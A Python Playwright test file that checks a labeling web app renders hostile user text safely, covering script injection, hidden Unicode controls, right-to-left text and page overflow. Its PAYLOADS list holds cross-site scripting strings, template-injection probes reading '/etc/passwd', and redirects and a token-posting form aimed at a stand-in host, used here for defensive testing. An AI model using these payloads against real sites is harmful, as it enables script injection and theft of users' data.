"""Users' text is hostile: whatever it holds, no script runs, no policy is broken, and the page keeps its shape."""

from typing import TYPE_CHECKING

import pytest

from labelwright.contracts.feedback import Subject
from tests.browser.conftest import Arrive
from tests.browser.person import press, words
from tests.desk_office import Office

if TYPE_CHECKING:
    from playwright.async_api import Page

playwright = pytest.importorskip("playwright.async_api", reason="playwright isn't installed (extra 'dev')")
expect = playwright.expect
pytestmark = [pytest.mark.browser, pytest.mark.server, pytest.mark.anyio]

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    '"><svg/onload=window.pwned=1>',
    "'\" onfocus=window.pwned=1 autofocus x='",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1 id=x>x</a>",
    "<details open ontoggle=window.pwned=1>",
    "<style>@import 'https://evil.test/x.css'; body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/>",
    "<form action=https://evil.test/><input name=token><button>Go</button></form>",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=window.pwned=1&gt;'>",
    "</textarea></title></noscript></template><script>window.pwned=1</script>",
    "<template><script>window.pwned=1</script></template>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "<object data='data:text/html,<script>window.pwned=1</script>'>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "<article data-kind='nothing'><h1>fake</h1></article>",
]


async def test_no_payload_runs(office: Office, arrive: Arrive) -> None:
    for payload in PAYLOADS:
        about = Subject(type=payload, id=payload, prompt=payload, response=f"{payload} ", model=payload)
        await office.open(payload, subject=about)
    page = await arrive("ada")

    for payload in PAYLOADS:
        await expect(words(page)).to_have_text(payload, use_inner_text=True)
        assert await page.evaluate("[window.pwned, window.__reports]") == [None, []]
        await press(page, "5")

    await expect(page.locator("h1")).to_have_text("Nothing waits for you just now")
    assert page.url == f"{office.url}/label"
    assert await office.labels() == ["fine"] * len(PAYLOADS)


async def test_what_a_text_hides_is_shown(office: Office, arrive: Arrive) -> None:
    await office.open("pay\u200bpal \u202egnp.exe")
    page = await arrive("ada")

    await expect(words(page)).to_have_text("payU+200Bpal U+202Egnp.exe")
    marks = page.locator(".mark")
    assert await marks.nth(1).get_attribute("title") == "U+202E RIGHT-TO-LEFT OVERRIDE"


async def test_arabic_reads_from_the_right_and_english_from_the_left(office: Office, arrive: Arrive) -> None:
    await office.open("مرحبا بالعالم", "\u202ehello")
    page = await arrive("ada")

    assert await _direction(page) == "rtl"
    await press(page, "5")
    await expect(words(page)).to_contain_text("hello")
    assert await _direction(page) == "ltr"


@pytest.mark.parametrize(("width", "height"), [(1280, 800), (768, 1024), (320, 640)])
async def test_the_page_keeps_its_width_whatever_the_text(
    office: Office, arrive: Arrive, width: int, height: int
) -> None:
    texts = ["x" * 30_000, "a\u0300" * 500 + "\u0489" * 500, "\n" * 500 + "end", "🤦" * 3_000, "W" + "\u00a0W" * 2_000]
    for text in texts:
        await office.open(text, subject=Subject(type="y" * 250, id="z" * 250, response=text[::-1]))
    page = await arrive("ada", width=width, height=height)

    for text in texts:
        await expect(words(page)).to_contain_text(text[:20])
        overflow = "document.scrollingElement.scrollWidth - document.documentElement.clientWidth"
        assert await page.evaluate(overflow) == 0
        assert await page.get_by_role("button", name="fine").is_visible()
        await press(page, "e", "5")

    await expect(page.locator("h1")).to_have_text("Nothing waits for you just now")


async def _direction(page: "Page") -> str:
    found: str = await words(page).evaluate("(node) => getComputedStyle(node).direction")
    return found
